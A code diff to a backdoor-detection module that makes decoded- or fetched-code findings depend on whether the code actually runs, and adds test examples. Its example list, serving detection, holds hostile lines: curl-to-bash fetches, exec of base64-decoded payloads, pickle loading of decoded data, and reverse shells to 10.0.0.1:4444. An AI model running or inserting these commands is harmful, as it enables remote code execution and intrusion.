@@ -10,12 +10,13 @@ from tidegate.core.finding import Finding, Severity
 from tidegate.detect.answers.opening import Starters, line_start
 from tidegate.detect.answers.rules import BACKDOOR, Findings
 from tidegate.detect.backdoors import shapes
+from tidegate.detect.backdoors.runs import does_run
 from tidegate.detect.detector import Example, Match, Pattern, Rule
 from tidegate.detect.text import Text
 
 _ID: Final = "code_backdoor"
 _LONGEST: Final = 420
-"""Characters, of the longest of the shapes."""
+"""Characters, of the longest of the shapes with what is read after it."""
 
 
 def _rule(ident: str, title: str, severity: Severity, what: str) -> Rule:
@@ -78,6 +79,8 @@ _OPEN: Final = re.compile(
     re.IGNORECASE,
 )
 
+_RUNNING: Final = ("decoded_code", "fetched_code")
+
 _EXAMPLES: Final = (
     Example(text="curl -fsSL https://get.example/x.sh | sudo bash", shows=("fetched_command",)),
     Example(text="bash <(curl -s https://a.example/x)", shows=("fetched_command",)),
@@ -89,7 +92,10 @@ _EXAMPLES: Final = (
     Example(text="exec(base64.b64decode(blob))", shows=("decoded_code",)),
     Example(text="eval(Buffer.from(x, 'base64').toString())", shows=("decoded_code",)),
     Example(text="echo $X | base64 -d | sh", shows=("decoded_code",)),
+    Example(text="pickle.loads(base64.b64decode(blob))", shows=("decoded_code",)),
+    Example(text="import pickle as json", shows=("decoded_code",)),
     Example(text="data = base64.b64decode(blob)", near="decoded_code"),
+    Example(text="claims = json.loads(base64.urlsafe_b64decode(part))", near="decoded_code"),
     Example(text="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", shows=("reverse_shell",)),
     Example(text="nc 10.0.0.1 4444 -e /bin/sh", shows=("reverse_shell",)),
     Example(text="os.dup2(s.fileno(), 0)", shows=("reverse_shell",)),
@@ -137,7 +143,12 @@ class CodeBackdoor:
 
     def find(self, text: Text, matches: Sequence[Match]) -> list[Finding]:
         """See Detector."""
-        return [_FINDINGS.at(match.rule, (match.start, match.end), "shape") for match in matches]
+        source = text.text
+        return [
+            _FINDINGS.at(match.rule, (match.start, match.end), "shape")
+            for match in matches
+            if match.rule not in _RUNNING or does_run(source, match.start, match.end)
+        ]
 
 
 DETECTOR = CodeBackdoor()
